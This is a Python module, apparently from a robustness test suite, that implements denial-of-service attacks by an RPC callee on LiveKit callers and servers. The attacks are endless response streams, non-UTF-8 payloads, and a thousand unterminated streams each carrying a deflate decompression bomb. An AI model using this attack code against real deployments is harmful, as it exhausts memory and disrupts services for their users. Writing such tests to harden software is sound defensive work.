"""Attacks of a callee on its caller: the victim, or the server itself."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from attrs import define
from livekit.protocol import models

from ...support.stream_packets import deflated, response_header
from .base import Attack, Attacker, Connection

DataStream = models.DataStream

_CHUNK: Final = b"x" * 15_000
_CHUNKS_AT_ONCE: Final = 4
_STREAMS: Final = 1_000
_STREAMS_AT_ONCE: Final = 20
_ENDLESS: Final = 1 << 40


@define
class _Call:
    """A request that the attacker got."""

    id: str
    caller: str

    def stream(self, name: str, **fields: object) -> models.DataPacket:
        """Return the header of one of the response streams."""
        header = response_header(self.id, None, **fields)
        header.stream_id = name
        return models.DataPacket(destination_identities=[self.caller], stream_header=header)

    def chunk(self, name: str, index: int, content: bytes) -> models.DataPacket:
        chunk = DataStream.Chunk(stream_id=name, chunk_index=index, content=content)
        return models.DataPacket(destination_identities=[self.caller], stream_chunk=chunk)

    def trailer(self, name: str) -> models.DataPacket:
        trailer = DataStream.Trailer(stream_id=name)
        return models.DataPacket(destination_identities=[self.caller], stream_trailer=trailer)

    def ack(self) -> models.DataPacket:
        ack = models.RpcAck(request_id=self.id)
        return models.DataPacket(destination_identities=[self.caller], rpc_ack=ack)


def _calls(packets: list[models.DataPacket]) -> Iterator[_Call]:
    for packet in packets:
        if packet.HasField("rpc_request"):
            yield _Call(packet.rpc_request.id, packet.participant_identity)


async def endless_responses(attacker: Attacker) -> None:
    """Answer each call with a stream that goes on after the call has ended."""

    async def answer(connection: Connection) -> None:
        for call in _calls(await connection.received_packets()):
            await connection.send_packets(call.ack(), call.stream(call.id, total_length=_ENDLESS))
            for index in range(0, 1_000, _CHUNKS_AT_ONCE):
                indexes = range(index, index + _CHUNKS_AT_ONCE)
                chunks = (call.chunk(call.id, each, _CHUNK) for each in indexes)
                await connection.send_packets(*chunks)

    await attacker.keep_joined(answer, listens=False)


async def responses_not_utf8(attacker: Attacker) -> None:
    """Answer each call with a stream that is not text."""

    async def answer(connection: Connection) -> None:
        for call in _calls(await connection.received_packets()):
            await connection.send_packets(
                call.ack(),
                call.stream(call.id, total_length=len(_CHUNK)),
                call.chunk(call.id, 0, b"\xff" * len(_CHUNK)),
                call.trailer(call.id),
            )

    await attacker.keep_joined(answer, listens=False)


async def many_responses(attacker: Attacker) -> None:
    """Answer each call with a thousand streams that inflate to 1 MiB each, and never end."""
    bomb = deflated(bytes(1024 * 1024))

    async def answer(connection: Connection) -> None:
        for call in _calls(await connection.received_packets()):
            await connection.send_packets(call.ack())
            for first in range(0, _STREAMS, _STREAMS_AT_ONCE):
                packets = []
                for number in range(first, first + _STREAMS_AT_ONCE):
                    name = f"{call.id} {number}"
                    deflate = DataStream.CompressionType.DEFLATE_RAW
                    packets += [
                        call.stream(name, compression=deflate, total_length=_ENDLESS),
                        call.chunk(name, 0, bomb),
                    ]
                await connection.send_packets(*packets)

    await attacker.keep_joined(answer, listens=False)


ATTACKS: Final = {
    "endless responses": Attack(endless_responses, called_by="victim"),
    "responses that are not UTF-8": Attack(responses_not_utf8, called_by="victim"),
    "many responses to one call": Attack(many_responses, called_by="victim"),
    "many responses to the server": Attack(many_responses, called_by="server"),
}
